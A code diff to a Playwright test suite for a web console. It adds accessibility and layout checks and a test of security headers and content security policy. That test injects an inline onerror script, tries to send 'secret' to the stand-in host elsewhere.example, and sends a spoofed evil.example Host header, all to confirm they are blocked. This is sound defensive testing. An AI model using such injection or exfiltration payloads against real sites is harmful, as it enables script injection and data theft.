@@ -1,5 +1,5 @@
-import AxeBuilder from "@axe-core/playwright";
 import type { Page } from "@playwright/test";
+import { expectAccessible } from "./accessible";
 import {
   answerFirstOption,
   createOwner,
@@ -10,8 +10,12 @@ import {
   startDemoRun,
   test,
 } from "./installation";
+import { PAGES } from "./pages";
 
 let installation: Installation;
+
+// The first makes the owner the others sign in as.
+test.describe.configure({ mode: "serial" });
 test.beforeAll(async () => {
   installation = await Installation.start();
 });
@@ -19,13 +23,14 @@ test.afterAll(async () => {
   await installation.stop();
 });
 
-/** Nothing a person with a screen reader or a keyboard would stumble over badly. */
-async function expectAccessible(page: Page): Promise<void> {
-  const { violations } = await new AxeBuilder({ page }).withTags(["wcag2a", "wcag2aa", "wcag21aa"]).analyze();
-  const serious = violations.filter(({ impact }) => impact === "serious" || impact === "critical");
-  expect(
-    serious.map(({ id, nodes }) => ({ id, where: nodes.map(({ html }) => html.slice(0, 160)).slice(0, 3) })),
-  ).toEqual([]);
+/** What the browser complains about: scripts that failed, and what the page's own policy did not let it load or run. */
+function complaintsOf(page: Page): string[] {
+  const complaints: string[] = [];
+  page.on("pageerror", (error) => complaints.push(error.message));
+  page.on("console", (message) => {
+    if (/content security policy/i.test(message.text())) complaints.push(`${page.url()}: ${message.text()}`);
+  });
+  return complaints;
 }
 
 async function expectNoSidewaysScroll(page: Page): Promise<void> {
@@ -38,8 +43,7 @@ test("every page of the console works on a desktop and a phone, with the keyboar
 }) => {
   const context = await browser.newContext({ baseURL: installation.url });
   const page = await context.newPage();
-  const errors: string[] = [];
-  page.on("pageerror", (error) => errors.push(error.message));
+  const errors = complaintsOf(page);
 
   await page.goto("/runs?status=failed");
   await expect(page).toHaveURL(/\/setup/);
@@ -47,9 +51,10 @@ test("every page of the console works on a desktop and a phone, with the keyboar
   await createOwner(page, installation);
   await expectAccessible(page);
 
-  await page.goto("/runs");
-  await expect(page.getByText(/no runs/i).first()).toBeVisible();
+  await page.goto("/runs?q=nothing-is-called-this");
+  await expect(page.getByText(/no run/i).first()).toBeVisible();
   await page.goto("/");
+  await expect(page.getByRole("button", { name: "Remove the examples…" })).toBeVisible();
   await startDemoRun(page, "How are decisions recorded?");
   await expect(page.getByText("How detailed should the answer be").first()).toBeVisible();
   await answerFirstOption(page);
@@ -95,5 +100,103 @@ test("every page of the console works on a desktop and a phone, with the keyboar
   await page.getByRole("button", { name: "Sign in" }).click();
   await expectAnswer(page);
   expect(errors).toEqual([]);
+  await context.close();
+});
+
+/** Lists, and an entry of each whose page is looked at as well. */
+const FIRST_OF = { "/teams": "Research desk", "/agents": "Searcher", "/knowledge": "Troupe documentation" };
+
+test("all pages are accessible and fit a desktop and a phone, light and dark", async ({ browser }) => {
+  const context = await browser.newContext({ baseURL: installation.url });
+  const page = await context.newPage();
+  const errors = complaintsOf(page);
+  await page.goto("/sign-in");
+  await page.getByLabel("E-mail address").fill(OWNER.email);
+  await page.getByLabel("Password", { exact: true }).fill(OWNER.password);
+  await page.getByRole("button", { name: "Sign in" }).click();
+  await page.waitForURL(({ pathname }) => pathname === "/");
+
+  const paths = [...PAGES];
+  for (const [list, name] of Object.entries(FIRST_OF)) {
+    await page.goto(list);
+    await page.getByRole("link", { name, exact: true }).click();
+    await page.waitForURL(new RegExp(`${list}/[0-9a-f-]{36}`));
+    paths.push(new URL(page.url()).pathname);
+  }
+  await page.getByRole("link", { name: "durability.md" }).click();
+  await page.waitForURL(/\/documents\/[0-9a-f-]{36}/);
+  paths.push(new URL(page.url()).pathname);
+
+  for (const { colorScheme, width } of [
+    { colorScheme: "light", width: 1440 },
+    { colorScheme: "dark", width: 390 },
+  ] as const) {
+    await page.emulateMedia({ colorScheme });
+    await page.setViewportSize({ width, height: 844 });
+    for (const path of paths) {
+      await page.goto(path);
+      await expect(page.getByRole("main").getByRole("heading").first()).toBeVisible();
+      await expect(page.locator(".skeleton-rows")).toHaveCount(0);
+      await expectNoSidewaysScroll(page);
+      await test.step(`axe on ${path} (${colorScheme}, ${width} px)`, () => expectAccessible(page));
+    }
+  }
+  expect(errors).toEqual([]);
+  await context.close();
+});
+
+test("answers are not to be framed, guessed at or kept; a page runs its own scripts only, and no other name is answered to", async ({
+  browser,
+}) => {
+  const context = await browser.newContext({ baseURL: installation.url });
+  const page = await context.newPage();
+  const complaints = complaintsOf(page);
+  await page.goto("/sign-in");
+  await page.getByLabel("E-mail address").fill(OWNER.email);
+  await page.getByLabel("Password", { exact: true }).fill(OWNER.password);
+  await page.getByRole("button", { name: "Sign in" }).click();
+  await page.waitForURL(({ pathname }) => pathname === "/");
+
+  const nonces = new Set<string>();
+  for (const path of ["/", "/runs", "/nothing-here"]) {
+    const headers = (await page.request.get(path)).headers();
+    expect(headers).toMatchObject({ "x-content-type-options": "nosniff", "cross-origin-opener-policy": "same-origin" });
+    expect(headers["cache-control"]).toContain("private");
+    expect(headers["cache-control"]).toContain("no-store");
+    const policy = headers["content-security-policy"] ?? "";
+    expect(policy).toContain("frame-ancestors 'none'");
+    expect(policy).not.toMatch(/https?:|script-src[^;]*'(unsafe-inline|self)'/);
+    nonces.add(/'nonce-([\w-]{16,})'/.exec(policy)?.[1] ?? "");
+  }
+  expect(nonces.size).toBe(3);
+  for (const path of ["/api/trpc/workspace.me", "/api/auth/csrf", "/api/files/nothing", "/healthz/ready"]) {
+    const headers = (await page.request.get(path)).headers();
+    expect(headers["cache-control"]).toContain("no-store");
+    expect(headers["x-content-type-options"]).toBe("nosniff");
+  }
+
+  // What a model or a tool could have written into a page.
+  await page.goto("/");
+  const ran = await page.evaluate(async () => {
+    const script = document.createElement("div");
+    script.innerHTML = `<img src="/nothing.png" onerror="document.title = 'ran'">`;
+    document.body.append(script);
+    await new Promise((resolve) => script.querySelector("img")?.addEventListener("error", resolve));
+    const image = new Image();
+    const outcome = new Promise((resolve) => {
+      image.onerror = () => resolve("refused");
+      image.onload = () => resolve("loaded");
+    });
+    image.src = "https://elsewhere.example/?q=secret";
+    return { title: document.title, image: await outcome };
+  });
+  expect(ran.title).not.toBe("ran");
+  expect(ran.image).toBe("refused");
+  // Both were the policy's doing, and nothing before them was.
+  expect(complaints.length).toBeGreaterThanOrEqual(2);
+  expect(complaints.filter((complaint) => !/inline event handler|elsewhere\.example/.test(complaint))).toEqual([]);
+
+  const foreign = await page.request.get("/sign-in", { headers: { host: "evil.example" } });
+  expect(foreign.status()).toBe(403);
   await context.close();
 });
